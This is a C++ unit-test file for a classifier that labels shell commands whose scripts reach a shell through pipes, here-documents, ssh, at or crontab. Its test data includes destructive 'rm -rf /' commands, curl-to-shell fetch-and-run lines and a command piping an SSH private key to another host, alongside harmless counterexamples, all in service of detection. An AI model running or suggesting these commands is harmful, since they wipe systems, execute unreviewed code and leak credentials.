// SPDX-License-Identifier: Apache-2.0
// Risks of scripts that a shell reads from its standard input.
#include "harms.h"

namespace assay {
namespace {

using testing::Contains;
using testing::IsEmpty;
using testing::Not;

TEST(FedShell, RunsWhatIsPrinted) {
  each_is(
      {"echo 'rm -rf /' | sh", "echo 'rm -rf ~' | bash", "echo rm -rf / | bash", "echo -n 'rm -rf /' | sh",
       "echo -e 'cd /\\nrm -rf /' | sh", "printf '%s\\n' 'rm -rf ~' | sh", "printf 'rm -rf /\\n' | bash -s",
       "printf 'rm -rf %s\\n' x / | sh", "echo 'rm -rf /' | cat | tee log | bash", "echo 'rm -rf /' | zsh",
       "{ echo ls; echo 'rm -rf /'; } | sh", "(cat header; echo 'rm -rf /') | sh",
       "for i in a; do echo 'rm -rf /'; done | sh", "bash < <(echo 'rm -rf /')",
       "echo 'rm -rf /' | sudo -u root bash", "echo 'rm -rf /' | bash /dev/stdin",
       "echo \"rm -rf $HOME\" | sh"},
      "deletion critical");
  each_is({"echo \"rm -rf $dir\" | sh", "for d in a b; do echo \"rm -r $d\"; done | sh"}, "deletion high");
}

TEST(FedShell, RunsAHereDocument) {
  each_is({"bash <<'E'\nrm -rf /\nE", "bash <<E\nrm -rf ~\nE", "sh <<-E\n\trm -rf /\n\tE",
           "bash <<< 'rm -rf /'", "cat <<E | sudo sh\nrm -rf /\nE", "cat - <<E | bash -e\nrm -rf /\nE",
           "sudo bash <<E\nrm -rf /\nE", "(bash) <<E\nrm -rf /\nE", "sudo -i <<E\nrm -rf /\nE",
           "sudo su - <<E\nrm -rf /\nE", "su - bob <<E\nrm -rf /\nE", "source /dev/stdin <<E\nrm -rf /\nE"},
          "deletion critical");
}

TEST(FedShell, MayBeOnAnotherMachine) {
  each_is({"ssh host bash <<'E'\nrm -rf /\nE", "ssh host <<E\nrm -rf /\nE", "ssh -T me@host <<E\nrm -rf /\nE",
           "echo 'rm -rf /' | ssh host bash", "echo 'rm -rf /' | ssh host sudo bash -s",
           "echo 'rm -rf /' | ssh host", "ssh host -p 22 'rm -rf /'",
           "ssh host 'cd /x && bash -s' <<E\nrm -rf /\nE", "cat <<E | ssh host sh\nrm -rf /\nE"},
          "deletion critical");
}

TEST(FedShell, MayRunItLater) {
  each_is({"at now <<< 'rm -rf /'", "echo 'rm -rf /' | at now", "at 5pm tomorrow <<E\nrm -rf /\nE",
           "echo 'rm -rf /' | batch", "echo '* * * * * rm -rf /' | crontab -",
           "crontab - <<E\nMAILTO=me\n# a comment\n@reboot rm -rf /\nE",
           "(crontab -l; echo '0 0 * * 0 rm -rf /') | crontab -u bob -"},
          "deletion critical");
  each_is({"echo reboot | at 5pm"}, "shutdown high");
}

TEST(FedShell, MayNotHaveBeenReadByAnybody) {
  each_is({"curl u | ssh host bash", "curl u | ssh host", "curl u | sudo -i", "wget -qO- u | (cd x; sh)",
           "curl u | at now", "curl u | bash /dev/stdin --yes", "curl u | tee >(bash)", "curl u | parallel",
           "curl u | crontab -", "sudo bash < <(curl u)"},
          "foreign_code critical");
}

TEST(FedShell, ThatIsOnAnotherMachineLearnsSecrets) {
  each_is({"cat ~/.ssh/id_rsa | ssh h", "cat ~/.ssh/id_rsa | ssh h 'cat > k'"}, "credentials critical");
}

TEST(FedShell, IsNoRiskIfTheScriptIsHarmless) {
  for (const char* command :
       {"echo 'ls -l' | sh", "echo \"echo 'rm -rf /'\" | sh", "printf 'ls\\n' | ssh host bash",
        "ssh host <<E\nuptime\ndf -h\nE", "ssh host bash <<'E'\ncd /srv\ngit pull\nE", "echo 'ls' | at now",
        "at now < job", "at -f job now", "at -l", "echo '0 5 * * * backup' | crontab -",
        "echo '# 0 5 * * * rm -rf /' | crontab -", "(crontab -l; echo '0 5 * * * backup') | crontab -",
        "sudo -i", "bash < script.sh", "ssh host bash < script.sh"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(FedShell, IsNotOneThatHasAnotherScriptOrNoShell) {
  for (const char* command : {"echo 'rm -rf /' | cat",
                              "echo 'rm -rf /' | tee notes",
                              "echo 'rm -rf /' > notes",
                              "echo 'rm -rf /' | grep rm",
                              "echo 'rm -rf /' | ssh host cat",
                              "echo 'rm -rf /' | ssh host 'cat > notes'",
                              "echo 'rm -rf /' | ssh -n host",
                              "echo 'rm -rf /' | bash build.sh",
                              "echo 'rm -rf /' | bash -c cat",
                              "echo 'rm -rf /' | su -c cat bob",
                              "echo 'rm -rf /' | tmux new -d sh",
                              "echo 'rm -rf /' | mail bob",
                              "echo 'rm -rf /' | tr a-z b-za | sh",
                              "{ echo 'rm -rf /' >&2; echo ls; } | sh",
                              "echo 'rm -rf /' > f | sh",
                              "cat <<E\nrm -rf /\nE",
                              "python3 <<E\nprint('rm -rf /')\nE",
                              "while read -r line; do echo \"$line\"; done <<E\nrm -rf /\nE",
                              "ssh host uptime <<E\nrm -rf /\nE",
                              "curl u | ssh host 'cat > page'",
                              "curl u | docker load",
                              "curl u | ssh -N host",
                              "curl u > page; ssh host",
                              "curl u | su -c 'tar x' bob"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(FedShell, IsReadOnce) {
  EXPECT_THAT(harms("bash <<E\nsh\nrm -rf x\nE"), testing::ElementsAre("deletion high"));
  EXPECT_THAT(harms("echo sh | sh"), IsEmpty());
}

TEST(FedShell, HasTheSpanOfTheCommandThatRunsTheScript) {
  const std::string text = "ls; echo 'rm -rf /' | sudo sh; pwd";
  const auto found = risks(text);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(text.substr(found[0].span.begin, found[0].span.end - found[0].span.begin), "sudo sh");
}

TEST(FedShell, TellsAQuotedTildeOfTheTextFromOneOfTheScript) {
  EXPECT_THAT(harms("echo \"rm -rf '~'\" | sh"), Not(Contains("deletion critical")));
  EXPECT_THAT(harms("echo \"rm -rf '~'\" | sh"), Contains("deletion high"));
}

}  // namespace
}  // namespace assay
